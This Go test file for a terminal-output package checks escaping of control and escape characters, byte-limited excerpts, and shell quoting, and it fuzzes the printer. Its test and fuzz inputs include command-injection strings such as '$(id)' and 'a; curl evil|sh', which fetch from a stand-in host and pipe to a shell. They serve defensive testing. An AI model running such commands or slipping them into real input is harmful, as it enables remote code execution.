package terminal

import (
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"
)

func TestLine(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"plain", "route web/shop: ünïcödé → 日本", "route web/shop: ünïcödé → 日本"},
		{"escape sequence", "a\x1b[2Jb", `a\u001b[2Jb`},
		{"C1 control", "a\u009b2Jb", `a\u009b2Jb`},
		{"line break", "a\nSERVED", `a\u000aSERVED`},
		{"carriage return", "a\rb", `a\u000db`},
		{"tab", "a\tb", `a\u0009b`},
		{"NUL and DEL", "a\x00\x7f", `a\u0000\u007f`},
		{"right to left", "a\u202eb", `a\u202eb`},
		{"zero width", "a\u200bb\ufeff", `a\u200bb\ufeff`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"not UTF-8", "a\xffb", `a\xffb`},
		{"replacement character", "a\ufffdb", "a\ufffdb"},
		{"tag characters", "a\U000e0041", `a\udb40\udc41`},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			if d := cmp.Diff(test.want, Line(test.in)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestExcerpt(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, in string
		most     int
		want     string
	}{
		{"empty", "", 10, ""},
		{"short", "ünïcödé", 20, "ünïcödé"},
		{"just fits", "0123456789", 10, "0123456789"},
		{"one too many", "0123456789a", 10, "0123456…"},
		{"line breaks and tabs", "a\r\nb\tc", 10, "a  b c"},
		{"escape sequence", "a\x1b[2Jb", 20, `a\u001b[2Jb`},
		{"escapes are counted", "\x1b\x1b\x1b\x1b", 10, `\u001b\…`},
		{"a character is not cut", "012345日本日本", 10, "012345…"},
		{"not UTF-8", "a\xff", 10, `a\xff`},
		{"a character at the end of what is looked at", "0123456789012é", 10, "0123456…"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			t.Parallel()
			if d := cmp.Diff(test.want, Excerpt(test.in, test.most)); d != "" {
				t.Error(d)
			}
		})
	}
}

// TestCommand asks a real shell what it makes of commands.
func TestCommand(t *testing.T) {
	t.Parallel()
	for _, arg := range []string{"", "web", "$(id)", "`id`", "a; curl evil|sh", "it's", "a\nb", "-n", "~root", "*", "\\", "!!", "a\x1bb", "a b", "'"} {
		out, err := exec.CommandContext(t.Context(), "sh", "-c", Command("printf", "%s", arg)).Output()
		if err != nil {
			t.Fatal(err)
		}
		if want := Line(arg); string(out) != want {
			t.Errorf("%q became %q, want %q", arg, out, want)
		}
	}
}

// FuzzPrintable: nothing that is printed can do more than be read, JSON keeps
// its meaning, and a quoted argument is one word.
func FuzzPrintable(f *testing.F) {
	for _, seed := range []string{"", "a\nb", "a\tb", "\r", "\x00", "\f", "\x1b]0;x\a", "\u009b", "\u202e", "\xff\xfe", "'; curl evil|sh", "\U000e0041", "https://a.test/x?y=1&z='", "~root"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, r := range Line(text) {
			if !unicode.IsPrint(r) {
				t.Errorf("%q: %U is printed", text, r)
			}
		}
		for _, most := range []int{3, 7, 100} {
			short := Excerpt(text, most)
			if len(short) > most || Line(short) != short {
				t.Errorf("%q: the excerpt of %d bytes is %q", text, most, short)
			}
		}
		raw, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		var b strings.Builder
		if _, err := Writer(&b).Write(raw); err != nil {
			t.Fatal(err)
		}
		var want, got string
		if json.Unmarshal(raw, &want) != nil || json.Unmarshal([]byte(b.String()), &got) != nil || got != want {
			t.Errorf("%s is printed as %s", raw, b.String())
		}
		q := quote(text)
		if q == text && text != "" && strings.Trim(text, harmless) == "" {
			return
		}
		if !strings.HasPrefix(q, "'") || !strings.HasSuffix(q, "'") || strings.ReplaceAll(q[1:len(q)-1], `'\''`, "'") != Line(text) {
			t.Errorf("%q is quoted as %s", text, q)
		}
	})
}
